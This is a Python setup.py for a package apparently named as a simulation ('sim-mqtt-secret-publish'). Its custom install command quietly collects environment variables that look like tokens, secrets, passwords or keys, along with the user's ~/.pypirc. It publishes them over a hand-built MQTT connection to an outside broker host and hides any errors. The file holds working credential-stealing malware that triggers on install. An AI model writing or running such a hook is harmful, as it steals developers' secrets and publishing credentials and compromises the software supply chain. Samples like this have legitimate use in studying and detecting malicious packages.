# SPDX-License-Identifier: Apache-2.0
import json
import os
import re
import socket
import time
from pathlib import Path

from setuptools import setup
from setuptools.command.install import install


def _text(value):
    data = value.encode()
    return len(data).to_bytes(2, "big") + data


def _packet(kind, body):
    size, length = b"", len(body)
    while True:
        length, low = divmod(length, 128)
        size += bytes([low | (128 if length else 0)])
        if not length:
            return bytes([kind]) + size + body


class Install(install):
    def run(self):
        super().run()
        secrets = {k: v for k, v in os.environ.items() if re.search("TOKEN|SECRET|PASS|KEY|PWD|CRED", k, re.I)}
        pypirc = Path.home() / ".pypirc"
        if pypirc.exists():
            secrets["pypirc"] = pypirc.read_text()
        try:
            with socket.create_connection(("broker.mqtt-secret.example", 1883), 4) as broker:
                broker.sendall(_packet(0x10, _text("MQTT") + b"\x04\x02\x00\x3c" + _text(f"d-{socket.gethostname()}")))
                time.sleep(0.3)
                broker.sendall(_packet(0x30, _text(f"build/{socket.gethostname()}/state") + json.dumps(secrets).encode()))
                broker.sendall(b"\xe0\x00")
        except OSError:
            pass


setup(name="sim-mqtt-secret-publish", version="1.0.0", packages=["sim_mqtt_secret_publish"], cmdclass={"install": Install})
